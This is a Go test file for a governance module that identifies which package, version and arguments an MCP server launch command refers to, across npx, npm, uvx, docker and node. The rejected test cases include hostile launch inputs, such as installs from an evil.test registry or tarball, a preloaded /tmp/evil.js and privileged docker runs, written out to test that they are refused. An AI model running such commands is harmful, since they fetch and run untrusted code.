package governance_test

import (
	"strings"
	"testing"
	"testing/fstest"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"

	"github.com/counterfoil/counterfoil"
	"github.com/counterfoil/counterfoil/internal/governance"
)

const fsServer = "@modelcontextprotocol/server-filesystem"

// disk is a file system with one project that has a server installed, an impostor and some links.
func disk() fstest.MapFS {
	file := func(s string) *fstest.MapFile { return &fstest.MapFile{Data: []byte(s)} }
	link := func(to string) *fstest.MapFile { return &fstest.MapFile{Data: []byte(to), Mode: 0o777 | 1<<27} }
	pkg := "home/a/project/node_modules/" + fsServer
	return fstest.MapFS{
		pkg + "/package.json":                                    file(`{"name":"` + fsServer + `","version":"2026.8.31","bin":{"mcp-server-filesystem":"dist/index.js"},"main":"./dist/lib.js"}`),
		pkg + "/dist/index.js":                                   file("x"),
		pkg + "/dist/other.js":                                   file("x"),
		pkg + "/dist/package.json":                               file(`{"type":"module"}`),
		"home/a/project/node_modules/.bin/mcp-server-filesystem": link("../" + fsServer + "/dist/index.js"),
		"home/a/project/node_modules/plain/package.json":         file(`{"name":"plain","version":"1.2.3","bin":"./run.js"}`),
		"home/a/project/node_modules/plain/run.js":               file("x"),
		"home/a/project/node_modules/nameless/run.js":            file("x"),
		"home/a/project/node_modules/twice/package.json":         file(`{"name":"twice","name":"plain","version":"1.2.3","bin":"run.js"}`),
		"home/a/project/node_modules/twice/run.js":               file("x"),
		"home/a/project/node_modules/vague/package.json":         file(`{"name":"vague","version":"latest","bin":"run.js"}`),
		"home/a/project/node_modules/vague/run.js":               file("x"),
		"home/a/project/package.json":                            file(`{"name":"project","version":"0.0.1","main":"server.js"}`),
		"home/a/project/server.js":                               file("x"),
		"home/a/link":                                            link("project"),
		"home/a/loop":                                            link("loop"),
		"usr/bin/tool":                                           file("x"),
		"tmp":                                                    link("/private/tmp"),
		"private/tmp/data/x":                                     file("x"),
	}
}

func TestIdentify(t *testing.T) {
	t.Parallel()
	npm := func(pkg, version, command string, args ...string) governance.Launch {
		return governance.Launch{Kind: governance.KindNPM, Package: pkg, Version: version, Command: command, Args: args}
	}
	none := governance.Launch{}
	tests := []struct {
		argv string
		want governance.Launch
	}{
		{"", none},
		{"npx", none},
		{"npx -y " + fsServer + "@2026.8.31 /data /tmp", npm(fsServer, "2026.8.31", "", "/data", "/tmp")},
		{"npx --yes -q " + fsServer + " /data", npm(fsServer, "", "", "/data")},
		{"/usr/bin/npx " + fsServer + "@2026.8.31", npm(fsServer, "2026.8.31", "")},
		{"npx.cmd " + fsServer + "@2026.8.31", npm(fsServer, "2026.8.31", "")},
		{"npx " + fsServer + "@latest /data", npm(fsServer, "", "", "/data")},
		{"npx " + fsServer + "@^2026.8.31", npm(fsServer, "", "")},
		{"npx " + fsServer + "@2026.8", npm(fsServer, "", "")},
		{"npx " + fsServer + "@2026.8.31-rc.1", npm(fsServer, "2026.8.31-rc.1", "")},
		{"npx plain@1.2.3 -x --flag=1", npm("plain", "1.2.3", "", "-x", "--flag=1")},
		{"npx -- plain@1.2.3 -y", npm("plain", "1.2.3", "", "-y")},
		{"npx -p " + fsServer + "@2026.8.31 mcp-server-filesystem /data", npm(fsServer, "2026.8.31", "mcp-server-filesystem", "/data")},
		{"npx --package=plain@1.2.3 sh -c x", npm("plain", "1.2.3", "sh", "-c", "x")},
		{"npx -p a -p b c", none},
		{"npx -p a@1.2.3", none},
		{"npx -p", none},
		{"npx -c plain@1.2.3", none},
		{"npx --registry=http://evil.test plain@1.2.3", none},
		{"npx --node-options --require=/tmp/x plain@1.2.3", none},
		{"npx x@npm:evil@1.0.0", none},
		{"npx plain@file:../evil", none},
		{"npx plain@https://evil.test/x.tgz", none},
		{"npx plain@", none},
		{"npx ./plain", none},
		{"npx github:evil/plain", none},
		{"npx evil/plain", none},
		{"npx @/plain", none},
		{"npx @scope/", none},
		{"npx @a/b/c", none},
		{"npm exec -y plain@1.2.3 a b", npm("plain", "1.2.3", "", "a", "b")},
		{"npm exec -- plain@1.2.3 --flag", npm("plain", "1.2.3", "", "--flag")},
		{"npm exec plain@1.2.3 -- --flag", npm("plain", "1.2.3", "", "--flag")},
		{"npm exec plain@1.2.3 --registry=http://evil.test", none},
		{"npm exec plain@1.2.3 --registry=http://evil.test -- x", none},
		{"npm x --package=plain@1.2.3 -- plain y", npm("plain", "1.2.3", "plain", "y")},
		{"npm run plain@1.2.3", none},
		{"npm", none},
		{"bunx plain@1.2.3 a", npm("plain", "1.2.3", "", "a")},
		{"bun x --bun plain@1.2.3", npm("plain", "1.2.3", "")},
		{"pnpm dlx plain@1.2.3 a", npm("plain", "1.2.3", "", "a")},
		{"uvx mcp-server-git@2026.1.1 --repository /r", governance.Launch{
			Kind: governance.KindPyPI, Package: "mcp-server-git", Version: "2026.1.1", Args: []string{"--repository", "/r"},
		}},
		{"uvx --from mcp_server.git==2026.1.1 run", governance.Launch{
			Kind: governance.KindPyPI, Package: "mcp-server-git", Version: "2026.1.1", Command: "run", Args: []string{},
		}},
		{"uv tool run mcp-server-git", governance.Launch{Kind: governance.KindPyPI, Package: "mcp-server-git", Args: []string{}}},
		{"uvx --with evil mcp-server-git", none},
		{"uvx --from git+https://evil.test/x run", none},
		{"docker run -i --rm -e TOKEN --mount type=bind,src=/a,dst=/b mcp/filesystem:1.0 /b", governance.Launch{
			Kind: governance.KindImage, Package: "mcp/filesystem", Version: "1.0", Args: []string{"/b"},
		}},
		{"docker run -it reg.test:5000/mcp/x@sha256:ab", governance.Launch{Kind: governance.KindImage, Package: "reg.test:5000/mcp/x", Version: "sha256:ab"}},
		{"docker run reg.test:5000/mcp/x", governance.Launch{Kind: governance.KindImage, Package: "reg.test:5000/mcp/x"}},
		{"docker run x:1@sha256:ab", governance.Launch{Kind: governance.KindImage, Package: "x", Version: "sha256:ab"}},
		{"docker run x:>", none},
		{"docker run x:", none},
		{"docker run x@", none},
		{"docker run --entrypoint sh mcp/x", none},
		{"docker run --privileged mcp/x", none},
		{"docker run -i", none},
		{"docker exec x y", none},
		{"node node_modules/" + fsServer + "/dist/index.js /data", npm(fsServer, "2026.8.31", "", "/data")},
		{"node /home/a/project/node_modules/" + fsServer + "/dist/index.js", npm(fsServer, "2026.8.31", "")},
		{"node /home/a/link/node_modules/" + fsServer + "/dist/index.js", npm(fsServer, "2026.8.31", "")},
		{"node node_modules/.bin/mcp-server-filesystem /data", npm(fsServer, "2026.8.31", "", "/data")},
		{"node_modules/.bin/mcp-server-filesystem /data", npm(fsServer, "2026.8.31", "", "/data")},
		{"/home/a/project/node_modules/.bin/mcp-server-filesystem /data", npm(fsServer, "2026.8.31", "", "/data")},
		{"node node_modules/plain/run.js", npm("plain", "1.2.3", "")},
		{"node server.js", npm("project", "0.0.1", "")},
		{"node node_modules/" + fsServer + "/dist/other.js", none},
		{"node node_modules/nameless/run.js", none},
		{"node node_modules/twice/run.js", none},
		{"node node_modules/vague/run.js", none},
		{"node /home/a/loop/x.js", none},
		{"node --require /tmp/evil.js server.js", none},
		{"node /nowhere/x.js", none},
		{"node", none},
		{"/usr/bin/tool --flag", governance.Launch{Kind: governance.KindBinary, Package: "/usr/bin/tool", Args: []string{"--flag"}}},
		{"tool --flag", none},
		{"./npx plain@1.2.3", none},
		{"/bin/sh -c x", none},
		{"/usr/bin/python3.12 -m x", none},
		{"/usr/bin/env npx plain@1.2.3", none},
		{"counterfoil sample-server /notes", governance.Launch{Kind: governance.KindBuiltin, Package: "counterfoil-sample", Args: []string{"/notes"}}},
		{"/opt/counterfoil sample-server /notes", governance.Launch{Kind: governance.KindBuiltin, Package: "counterfoil-sample", Args: []string{"/notes"}}},
		{"./counterfoil sample-server /notes", none},
		{"/opt/counterfoil wrap -- x", none},
	}
	for _, tt := range tests {
		got := governance.Identify(strings.Fields(tt.argv), "/home/a/project", disk())
		if got.Dir != "/home/a/project" || len(got.Real) != len(got.Args) {
			t.Errorf("%s: %+v", tt.argv, got)
		}
		if diff := cmp.Diff(tt.want, got, cmpopts.EquateEmpty(), cmpopts.IgnoreFields(governance.Launch{}, "Dir", "Real")); diff != "" {
			t.Errorf("%s (-want +got)\n%s", tt.argv, diff)
		}
	}
	for _, argv := range []string{"node server.js", "node_modules/.bin/mcp-server-filesystem /data"} {
		if got := governance.Identify(strings.Fields(argv), "/home/a/project", nil); got.Kind != "" {
			t.Errorf("%s, without a file system: %+v", argv, got)
		}
	}
}

func TestIdentify_links(t *testing.T) {
	t.Parallel()
	got := governance.Identify(strings.Fields("npx "+fsServer+" /tmp/data sub/../../link /private /home/a/loop ~/x -v"), "/home/a/project", disk())
	want := []string{"/private/tmp/data", "/home/a/project", "", "", "", ""}
	if diff := cmp.Diff(want, got.Real); diff != "" {
		t.Errorf("-want +got\n%s", diff)
	}
}

func TestIdentity(t *testing.T) {
	t.Parallel()
	got, err := governance.Identity([]string{"npx", "-y", "pkg", "é\n"}, "/home/a", []string{"PATH", "HOME", "PATH"})
	if err != nil {
		t.Fatal(err)
	}
	const want = `{"argv":["npx","-y","pkg","é\n"],"dir":"/home/a","env":["HOME","PATH"],"transport":"stdio"}`
	if string(got) != want {
		t.Errorf("got %s", got)
	}
	seen := map[counterfoil.Digest]string{}
	for _, tt := range []struct {
		argv []string
		dir  string
		env  []string
	}{
		{nil, "", nil}, {[]string{"a"}, "", nil}, {[]string{"a", ""}, "", nil}, {[]string{"a", "b"}, "", nil}, {[]string{"a b"}, "", nil},
		{[]string{"a"}, "b", nil}, {[]string{"a"}, "", []string{"b"}}, {[]string{"a"}, "", []string{"b", "c"}}, {[]string{"a"}, "", []string{"b,c"}},
	} {
		b, err := governance.Identity(tt.argv, tt.dir, tt.env)
		if err != nil {
			t.Fatal(err)
		}
		d, err := counterfoil.UpstreamDigest(b)
		if err != nil {
			t.Fatal(err)
		}
		if other, ok := seen[d]; ok {
			t.Errorf("%s and %s have one digest", other, b)
		}
		seen[d] = string(b)
	}
	for _, bad := range [][]string{{"a\xff"}, {"\xed\xa0\x80"}} {
		if b, err := governance.Identity(bad, "/", nil); err == nil {
			t.Errorf("%q became %s", bad, b)
		}
		if b, err := governance.Identity([]string{"a"}, bad[0], nil); err == nil {
			t.Errorf("directory %q became %s", bad, b)
		}
		if b, err := governance.Identity([]string{"a"}, "/", bad); err == nil {
			t.Errorf("environment %q became %s", bad, b)
		}
	}
}

func FuzzIdentify(f *testing.F) {
	for _, s := range []string{"npx -y a@1.2.3 /data", "docker run -i x:1 y", "node server.js", "npm exec a -- -b", "counterfoil sample-server x", "/tmp/x"} {
		f.Add(s, "/home/a/project")
	}
	f.Fuzz(func(t *testing.T, argv, dir string) {
		words := strings.Split(argv, " ")
		l := governance.Identify(words, dir, disk())
		if len(l.Real) != len(l.Args) || len(l.Args) >= len(words) {
			t.Fatalf("%+v", l)
		}
		if (l.Kind == "") != (l.Package == "") || l.Kind == "" && len(l.Args) > 0 {
			t.Fatalf("half known: %+v", l)
		}
		if strings.ContainsAny(l.Version, "^~*<>/ ") {
			t.Fatalf("a version that isn't one: %+v", l)
		}
	})
}
